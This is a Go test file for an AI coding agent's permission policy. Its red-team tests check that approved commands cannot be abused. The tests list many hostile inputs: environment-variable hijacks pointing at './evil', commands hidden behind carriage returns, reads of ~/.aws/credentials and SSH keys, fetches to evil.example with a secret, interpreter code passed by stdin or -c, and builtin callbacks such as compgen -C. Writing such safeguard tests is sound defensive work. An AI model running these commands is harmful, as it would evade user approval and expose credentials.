package policy

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"companion/tools"
)

// TestRedteamEditorSettings: in auto_edit, with every edit allowed, the
// model cannot write the project settings of the editors that start
// programs from them (Zed's language and context servers, Cursor's MCP
// servers) or lefthook's hook definitions without a question.
func TestRedteamEditorSettings(t *testing.T) {
	roots, ws, _ := protectTree(t)
	for _, rel := range []string{".zed/settings.json", ".zed/tasks.json", ".Zed/Settings.json", "sub/.zed/settings.json",
		".cursor/mcp.json", "lefthook.yml", ".lefthook.yml", "lefthook-local.yml"} {
		for _, call := range []Call{
			{Tool: "write_file", Kind: tools.KindEdit, Confirm: edit(filepath.Join(ws, rel))},
			shellCall("echo x > "+rel, ws),
			shellCall("cp x "+rel, ws),
		} {
			p := New(Options{Mode: ModeAutoEdit, Trusted: true, Roots: roots,
				Rules: rules(t, []string{"edit", "shell(echo)", "shell(cp)"}, nil, nil)})
			if v := p.Decide(call); v.Decision != Ask || !strings.Contains(v.Reason, "asked every time") {
				t.Errorf("%s %s: %v (%s), want ask", call.Tool, rel, v.Decision, v.Reason)
			}
		}
	}
	p := New(Options{Mode: ModeAutoEdit, Trusted: true, Roots: roots})
	if v := p.Decide(Call{Tool: "write_file", Kind: tools.KindEdit, Confirm: edit(filepath.Join(ws, "zed/settings.json"))}); v.Decision != Allow {
		t.Errorf("zed/settings.json (not a settings folder): %v (%s), want allow", v.Decision, v.Reason)
	}
}

// TestRedteamAllowedProgramHijack: after "always allow" answers for
// everyday commands, the model cannot make them run another program
// through a variable set on the line (a home or config folder, the
// package manager's, compiler's or test runner's settings) or hide a
// command behind a carriage return, which the parser reads as a blank
// and bash does not.
func TestRedteamAllowedProgramHijack(t *testing.T) {
	roots, root := testRoots(t)
	allow := []string{"shell(ls)", "shell(git status)", "shell(npm test)", "shell(go test)", "shell(make test)",
		"shell(cargo test)", "shell(pytest)", "shell(less)", "shell(kubectl get)", "shell(tar)", "shell(echo)"}
	p := New(Options{Trusted: true, Roots: roots, Rules: rules(t, allow, nil, nil)})
	lines := []string{
		"HOME=docs git status", "XDG_CONFIG_HOME=docs git status", "export HOME=docs; git status",
		"env HOME=docs git status", "declare -x HOME=docs; git status", "declare -n r=HOME; r=docs; git status",
		"npm_config_script_shell=./evil npm test", "NPM_CONFIG_NODE_OPTIONS=--require=./evil.js npm test",
		"env npm_config_script_shell=./evil npm test", "YARN_YARN_PATH=./evil.js npm test",
		"GOFLAGS=-toolexec=./evil go test", "CC=./evil go test", "PKG_CONFIG=./evil go test", "GOTOOLCHAIN=path go test",
		"MAKEFLAGS='SHELL=./evil' make test", "MAKEFILES=./evil.mk make test", "SHELL=./evil make test",
		"RUSTC_WRAPPER=./evil cargo test", "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=./evil cargo test",
		"PYTEST_ADDOPTS='-p evil' pytest", "PYTEST_PLUGINS=evil pytest", "LESS='+!./evil' less f",
		"KUBECONFIG=./evil.yaml kubectl get pods", "TAR_OPTIONS=--to-command=./evil tar xf a.tar",
		"LD_DEBUG_OUTPUT=/tmp/x ls", "GCONV_PATH=./evil ls", "OPENSSL_CONF=./evil.cnf git status",
		"ls \r#; ./evil", "ls \r# $(./evil)", "ls x\\\r\n./evil", "bash -c $'ls \\r#; ./evil'",
		"ls # x \\\n./evil", "ls $(echo # \\\n./evil)", "bash -c $'ls # \\\\\\n./evil'",
		// Variables no deny list named: any upper-case name not known to be
		// harmless is asked about.
		"GOCACHEPROG=./evil go test", "GOWORK=./evil.work go test", "CGO_CFLAGS=-fplugin=./evil.so go test",
		"JAVA_HOME=./evil make test", "GLIBC_TUNABLES=x ls", "TERMINFO=./evil less f", "NLSPATH=./evil ls",
		"CCACHE_PREFIX=./evil make test", "LUA_INIT=@evil.lua make test", "PHPRC=. make test",
		"PIP_CONFIG_FILE=./evil pytest", "PNPM_HOME=./evil npm test", "pnpm_config_x=1 npm test",
		"export GOCACHEPROG=./evil; go test", "read -r GOCACHEPROG < f; go test",
	}
	for _, line := range lines {
		if v := p.Decide(shellCall(line, root)); v.Decision == Allow {
			t.Errorf("hijack: %q was allowed", line)
		}
	}
	for _, line := range []string{"LANG=C ls", "CI=1 npm test", "CGO_ENABLED=0 go test ./...", "NODE_ENV=test npm test",
		"TZ=UTC ls", "ls \t-la", "echo 'a\tb'", "GOOS=windows GOARCH=arm64 go test", "RUST_BACKTRACE=1 cargo test",
		"LC_ALL=C NO_COLOR=1 ls", "for f in *.go; do echo $f; done", "n=3; ls"} {
		if v := p.Decide(shellCall(line, root)); v.Decision != Allow {
			t.Errorf("%q should be allowed by the rules: %v (%s)", line, v.Decision, v.Reason)
		}
	}
	// An unlisted variable is beyond what a rule covers, not code known
	// only at run time: the card says which, and yolo runs the line.
	v := p.Decide(shellCall("GOCACHEPROG=./evil go test", root))
	if !strings.Contains(v.Reason, "with GOCACHEPROG set") {
		t.Errorf("reason %q does not name the variable", v.Reason)
	}
	yolo := New(Options{Mode: ModeYolo, Trusted: true, Roots: roots})
	if v := yolo.Decide(shellCall("DATABASE_URL=x npm test", root)); v.Decision != Allow {
		t.Errorf("yolo asked about an unlisted variable: %v (%s)", v.Decision, v.Reason)
	}
}

// TestRedteamFetchAlwaysByHost: "always" for a fetch covers the hosts the
// card named; another host, or the same name on another port, is asked
// about again, and a rejection "for this session" refuses that host only.
func TestRedteamFetchAlwaysByHost(t *testing.T) {
	roots, _ := testRoots(t)
	fetch := func(u string) Call {
		return Call{Tool: "web_fetch", Kind: tools.KindFetch, Confirm: &tools.Confirmation{Type: tools.ConfirmInfo, URLs: []string{u}}}
	}
	p := New(Options{Trusted: true, Roots: roots})
	p.Remember(true, AlwaysRules(fetch("https://Docs.Example.org/guide"), ScopeThis)...)
	for u, want := range map[string]Decision{
		"https://docs.example.org/other?q=1":         Allow,
		"http://DOCS.example.org/":                   Allow,
		"https://evil.example/?k=SECRET":             Ask,
		"https://docs.example.org.evil.example/":     Ask,
		"https://docs.example.org:8443/":             Ask,
		"https://user@evil.example/docs.example.org": Ask,
		"not a url": Ask,
	} {
		if v := p.Decide(fetch(u)); v.Decision != want {
			t.Errorf("%s: %v, want %v", u, v.Decision, want)
		}
	}
	p.Remember(false, AlwaysRules(fetch("https://evil.example/x"), ScopeThis)...)
	if v := p.Decide(fetch("https://evil.example/y")); v.Decision != Deny {
		t.Errorf("rejected host: %v, want deny", v.Decision)
	}
	if v := p.Decide(fetch("https://docs.example.org/z")); v.Decision != Allow {
		t.Errorf("allowed host after another was rejected: %v, want allow", v.Decision)
	}
}

// TestRedteamHomeSecrets: after "always allow" for cat, head, grep and
// cp, the model cannot read (or overwrite) the credentials kept in the
// user's home folder, however it spells the path; other files outside
// the workspace stay covered by the rules.
func TestRedteamHomeSecrets(t *testing.T) {
	roots, root := testRoots(t)
	home, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Setenv("HOME", home)
	for _, f := range []string{".aws/credentials", ".ssh/id_ed25519", ".config/gh/hosts.yml", ".netrc", "notes.txt"} {
		testWrite(t, filepath.Join(home, f))
	}
	if err := os.Symlink(filepath.Join(home, ".aws"), filepath.Join(root, "cloud")); err != nil {
		t.Fatal(err)
	}
	rel, err := filepath.Rel(root, filepath.Join(home, ".netrc"))
	if err != nil {
		t.Fatal(err)
	}
	p := New(Options{Trusted: true, Roots: roots, Rules: rules(t, []string{"shell(cat)", "shell(head)", "shell(grep)", "shell(cp)"}, nil, nil)})
	for _, line := range []string{
		"cat " + home + "/.aws/credentials", "cat ~/.aws/credentials", "cat $HOME/.aws/credentials",
		"cat ${HOME}/.ssh/id_ed25519", `cat "$HOME"/.ssh/id_ed25519`, `cat "$HOME/.config/gh/hosts.yml"`,
		"head -c 200 " + home + "/.netrc", "cat " + rel, "cat cloud/credentials", "grep -r token " + home + "/.config/gh",
		"grep --file=" + home + "/.netrc x", "cp README.md ~/.bashrc",
	} {
		if v := p.Decide(shellCall(line, root)); v.Decision != Ask {
			t.Errorf("%q: %v (%s), want ask", line, v.Decision, v.Reason)
		}
	}
	for _, line := range []string{"cat " + home + "/notes.txt", "cat ~/notes.txt", "cat /etc/hostname", "grep x src/a.go"} {
		if v := p.Decide(shellCall(line, root)); v.Decision != Allow {
			t.Errorf("%q: %v (%s), want allow", line, v.Decision, v.Reason)
		}
	}
}

// testWrite creates path, with its folders, holding a line.
func testWrite(t *testing.T, path string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte("secret\n"), 0o600); err != nil {
		t.Fatal(err)
	}
}

// TestRedteamEmbeddedBareRepo: git commands that would work in a bare
// repository the workspace carries as plain files (by -C, cd, env -C or
// the tool's directory), or in a folder outside it chosen by env -C, are
// asked about under a broad git rule too; commands that find the
// workspace's .git first are not.
func TestRedteamEmbeddedBareRepo(t *testing.T) {
	roots, root := testRoots(t)
	for _, d := range []string{".git", "lib/objects", "lib/refs", "src/pkg"} {
		if err := os.MkdirAll(filepath.Join(root, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	testWrite(t, filepath.Join(root, "lib", "HEAD"))
	if err := os.Symlink("lib", filepath.Join(root, "innocent")); err != nil {
		t.Fatal(err)
	}
	p := New(Options{Mode: ModeAutoEdit, Trusted: true, Roots: roots, Rules: rules(t, []string{"shell(git)", "shell(cd)", "shell(ls)"}, nil, nil)})
	for _, tc := range []struct{ line, dir string }{
		{"git -C lib diff HEAD~1 HEAD", ""}, {"cd lib && git diff HEAD~1 HEAD", ""}, {"cd lib/refs; git log -p", ""},
		{"git -C innocent fetch", ""}, {"git -C src -C ../lib diff", ""}, {"ls && git diff HEAD~1 HEAD", "lib"},
		{"git diff", "lib/objects"}, {"env -C lib git diff HEAD~1 HEAD", ""}, {"env --chdir=lib/refs git log -p", ""},
		{"env -C " + t.TempDir() + " git status", ""}, {"sudo -D lib git diff", ""},
	} {
		c := shellCall(tc.line, root)
		c.Confirm.Dir = tc.dir
		if v := p.Decide(c); v.Decision != Ask {
			t.Errorf("%q in %q: %v (%s), want ask", tc.line, tc.dir, v.Decision, v.Reason)
		}
	}
	for _, tc := range []struct{ line, dir string }{{"git diff", ""}, {"git -C src/pkg status", ""}, {"cd src && git log", ""}, {"ls", "lib"}, {"env -C src git status", ""}} {
		c := shellCall(tc.line, root)
		c.Confirm.Dir = tc.dir
		if v := p.Decide(c); v.Decision != Allow {
			t.Errorf("%q in %q: %v (%s), want allow", tc.line, tc.dir, v.Decision, v.Reason)
		}
	}
}

// TestRedteamInterpreterCode (issue 26, item 5): after "always allow" for
// a script run by each interpreter, the model cannot run code of its own
// choosing through it: fed on standard input (here-document, here-string,
// pipe, "-", /dev/stdin, a file redirected in, -i after the script),
// given on the command line (-c, -Sc, -e, --eval), loaded by an option
// (-r, -M) or a module the rule does not name (python3 -m). These are
// beyond any rule, not code known only at run time: yolo runs them, as
// it runs python3 -c. A module the user allowed by name is covered.
func TestRedteamInterpreterCode(t *testing.T) {
	roots, root := testRoots(t)
	p := New(Options{Trusted: true, Roots: roots})
	for _, line := range []string{"python3 gen.py", "node app.js", "ruby x.rb", "perl x.pl", "php x.php", "lua x.lua",
		"Rscript x.R", "tclsh x.tcl", "bash s.sh", "python3 -m pytest -x", "deno run main.ts", "bun x.ts",
		"uv run python gen.py", "uv run python -m pytest -x"} {
		p.Remember(true, AlwaysRules(shellCall(line, root), ScopeThis)...)
	}
	lines := []string{
		"python3 <<'EOF'\nopen('PWNED', 'w')\nEOF", "python3 <<< \"open('PWNED', 'w')\"", "echo x | python3",
		"python3 - <<< x", "python3 /dev/stdin <<< x", "python3 < evil.py", "python3 -i gen.py <<< x",
		"python3 -c x", "python3 -Sc x", "python3 -m http.server", "python3 -m evil", "python3 -B -m pytest",
		"python3 -mpytest", "python3 $F", "python3 -X dev <<< x", "/usr/bin/python3 <<< x", ".venv/bin/python3 <<< x",
		"node <<< x", "node - < evil.js", "node -e x", "node --eval=x", "node -r ./evil.js app.js", "node -i <<< x",
		"ruby <<< x", "ruby -e x", "ruby -r ./evil x.rb", "perl <<< x", "perl -e x", "perl -MEvil x.pl",
		"php <<< x", "php -r x", "php -d auto_prepend_file=evil.php x.php", "lua <<< x", "lua -e x",
		"Rscript - <<< x", "Rscript -e x", "tclsh <<< x", "bash < evil.sh", "echo x | bash /dev/stdin",
		"bash --rcfile evil.sh -i <<< ls", "deno run - <<< x", "deno run -A /dev/stdin <<< x", "bun - <<< x",
		"bun -e x", "bun --preload ./evil.ts x.ts", "python3 ../../../../dev/stdin <<< x", "ipython <<< x",
		"uv run python <<< x", "uv run python -c x", "uv run python -m http.server", "uv run python - < evil.py",
	}
	for _, line := range lines {
		if v := p.Decide(shellCall(line, root)); v.Decision == Allow {
			t.Errorf("%q was allowed after always-allowing its interpreter", line)
		}
	}
	for _, line := range []string{"python3 gen.py", "python3 gen.py < data.txt", "python3 -m pytest -x", "python3 -m pytest -k y",
		"node app.js", "ruby x.rb", "perl x.pl", "php x.php", "lua x.lua", "Rscript x.R", "tclsh x.tcl", "bash s.sh",
		"deno run main.ts", "bun x.ts", "uv run python gen.py", "uv run python -m pytest -k y"} {
		if v := p.Decide(shellCall(line, root)); v.Decision != Allow {
			t.Errorf("%q should be allowed by the always answers: %v (%s)", line, v.Decision, v.Reason)
		}
	}
	yolo := New(Options{Mode: ModeYolo, Trusted: true, Roots: roots})
	for _, line := range []string{"python3 <<< x", "python3 -c x", "python3 -m http.server", "node <<< x"} {
		if v := yolo.Decide(shellCall(line, root)); v.Decision != Allow {
			t.Errorf("yolo asked about %q: %v (%s)", line, v.Decision, v.Reason)
		}
	}
}

// TestRedteamBuiltinCallbacks (issue 26, item 7): with the builtins
// allowed, the options through which they run code are asked about, in
// yolo too: compgen and complete -C (a command run with words appended
// at run time, as mapfile -C's), -W word lists holding an expansion,
// bind -x and fc (which runs history entries again) are code known only
// at run time; jobs -x runs its command, which must be allowed itself.
func TestRedteamBuiltinCallbacks(t *testing.T) {
	roots, root := testRoots(t)
	allow := []string{"shell(compgen)", "shell(complete)", "shell(mapfile)", "shell(readarray)", "shell(bind)", "shell(fc)",
		"shell(history)", "shell(jobs)", "shell(builtin)", "shell(command)", "shell(trap)", "shell(ls)"}
	lines := []string{
		"compgen -C 'touch PWNED' x", "compgen -aC 'touch PWNED' x", "compgen -C'touch PWNED' x",
		"compgen -W '$(touch PWNED)' x", "compgen -W '`touch PWNED`' x", "compgen -W '<(touch PWNED)' x",
		"complete -C 'touch PWNED' ls", "complete -W '$(touch PWNED)' ls", "builtin compgen -C 'touch PWNED' x",
		"command compgen -C 'touch PWNED' x", "mapfile -C 'touch PWNED' -c 1 a < f", "readarray -tC 'touch PWNED' a < f",
		`bind -x '"\C-x": touch PWNED'`, "history -s 'touch PWNED'; fc -s", "fc -e 'touch PWNED' -1", "compgen $OPT x",
	}
	for _, mode := range []string{ModeDefault, ModeYolo} {
		p := New(Options{Mode: mode, Trusted: true, Roots: roots, Rules: rules(t, allow, nil, nil)})
		for _, line := range lines {
			if v := p.Decide(shellCall(line, root)); v.Decision == Allow {
				t.Errorf("%s: %q was allowed", mode, line)
			}
		}
	}
	p := New(Options{Trusted: true, Roots: roots, Rules: rules(t, allow, nil, nil)})
	for _, line := range []string{"jobs -x touch PWNED", "trap 'touch PWNED' EXIT", "f() { touch PWNED; }; compgen -F f x",
		"compgen -F f x"} {
		if v := p.Decide(shellCall(line, root)); v.Decision == Allow {
			t.Errorf("%q was allowed", line)
		}
	}
	for _, line := range []string{"compgen -A file x", "compgen -W 'start stop' -- st", "complete -p", "fc -l", "jobs -l",
		"bind -p", "jobs -x ls"} {
		if v := p.Decide(shellCall(line, root)); v.Decision != Allow {
			t.Errorf("%q should be allowed by the rules: %v (%s)", line, v.Decision, v.Reason)
		}
	}
}
